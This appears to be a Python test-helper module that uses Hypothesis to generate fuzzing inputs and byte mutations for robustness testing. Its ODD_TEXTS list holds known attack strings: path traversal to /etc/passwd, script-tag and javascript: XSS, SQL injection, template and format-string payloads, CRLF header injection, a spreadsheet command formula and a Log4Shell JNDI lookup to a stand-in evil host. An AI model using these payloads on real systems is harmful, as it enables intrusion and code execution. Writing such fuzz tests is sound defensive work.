"""What attackers do to something good: flip, cut, repeat, splice, stuff; and texts that upset programs."""

from collections.abc import Callable
from typing import Any, Final

from hypothesis import strategies as st

ODD_TEXTS: Final = (
    "", " ", "\x00", "\x7f", "\u200b", "\u202e", "\ufeff", "\ud800", "\udfff", "é", "e\u0301", "İ", "ß", "ﬃ",
    "１２３", "٣", "𝟙",
    "null", "undefined", "true", "NaN", "Infinity", "-0", "1e999", "9" * 400, "0x10", "../../etc/passwd",
    "..%2f..%2f",
    "//evil.example", "https://evil.example/", "javascript:alert(1)", "/\\evil.example", "<script>alert(1)</script>",
    "{{7*7}}", "{% raise %}", "%s%n%x", "' or 1=1--", "a\r\nSet-Cookie: x=y", "a\nBcc: b@c.example",
    "=cmd|' /C calc'!A0",
    "${jndi:ldap://evil.example/a}", "A" * 5_000, "あ" * 3_000, "\U0001f4a9" * 500, "ja", "en", "on", "approve",
    "lost", "0" * 32,
)  # fmt: skip
"""Each broke some program somewhere."""


def texts(*known: str) -> st.SearchStrategy[str]:
    """Known words, texts that upset programs, and any text at all."""
    chosen = st.sampled_from([*known, *ODD_TEXTS])
    return st.one_of(chosen, st.text(max_size=60), st.text(alphabet=st.characters(), max_size=8))


def encodable(*known: str) -> st.SearchStrategy[str]:
    """The same, of what can travel as UTF-8."""
    return texts(*known).map(lambda text: text.encode("utf-8", "ignore").decode())


def mutated(original: bytes, other: bytes = b"") -> st.SearchStrategy[bytes]:
    """The bytes with up to six things done to them; ``other`` is what is spliced in."""
    place = st.integers(0, max(0, len(original) - 1))
    step = st.one_of(
        st.tuples(st.just(_set), place, st.integers(0, 255)),
        st.tuples(st.just(_flip), place, st.integers(0, 7)),
        st.tuples(st.just(_cut), place, st.integers(1, 400)),
        st.tuples(st.just(_truncate), place, st.none()),
        st.tuples(st.just(_repeat), place, st.integers(1, 200)),
        st.tuples(st.just(_insert), place, st.binary(max_size=24)),
        st.tuples(
            st.just(_insert),
            place,
            st.sampled_from([b"\xff\xff\xff\xff", b"\0" * 8, b"\x7f\xff\xff\xff", b"\xff\xd9", other]),
        ),
        st.tuples(
            st.just(_append),
            st.just(0),
            st.sampled_from([b"<script>alert(1)</script>", b"PK\x05\x06" + b"\0" * 18, other]),
        ),
    )

    def applied(steps: list[Any]) -> bytes:
        value = original
        for act, at, how in steps:
            value = act(value, at, how)
        return value

    return st.lists(step, max_size=6).map(applied)


def mutated_text(original: str, alphabet: str) -> st.SearchStrategy[str]:
    """A token with characters changed, cut, doubled, put elsewhere or in another case."""
    place = st.integers(0, len(original))
    act: st.SearchStrategy[Callable[[str], str]] = st.one_of(
        st.tuples(place, st.sampled_from(alphabet)).map(lambda p: lambda s: s[: p[0]] + p[1] + s[p[0] + 1 :]),
        st.tuples(place, st.sampled_from(alphabet)).map(lambda p: lambda s: s[: p[0]] + p[1] + s[p[0] :]),
        place.map(lambda p: lambda s: s[:p]),
        place.map(lambda p: lambda s: s[p:]),
        place.map(lambda p: lambda s: s[p:] + s[:p]),
        st.just(str.swapcase),
        st.just(lambda s: s + s),
        st.just(lambda s: s.replace(".", "")),
        st.sampled_from(ODD_TEXTS).map(lambda t: lambda s: s + t),
    )

    def applied(acts: list[Callable[[str], str]]) -> str:
        value = original
        for each in acts:
            value = each(value)
        return value

    return st.lists(act, min_size=1, max_size=4).map(applied)


def _set(value: bytes, at: int, byte: int) -> bytes:
    return value[:at] + bytes([byte]) + value[at + 1 :]


def _flip(value: bytes, at: int, bit: int) -> bytes:
    return value[:at] + bytes([value[at] ^ 1 << bit]) + value[at + 1 :] if at < len(value) else value


def _cut(value: bytes, at: int, length: int) -> bytes:
    return value[:at] + value[at + length :]


def _truncate(value: bytes, at: int, _: None) -> bytes:
    return value[:at]


def _repeat(value: bytes, at: int, length: int) -> bytes:
    return value[:at] + value[at : at + length] * 2 + value[at + length :]


def _insert(value: bytes, at: int, what: bytes) -> bytes:
    return value[:at] + what + value[at:]


def _append(value: bytes, _: int, what: bytes) -> bytes:
    return value + what
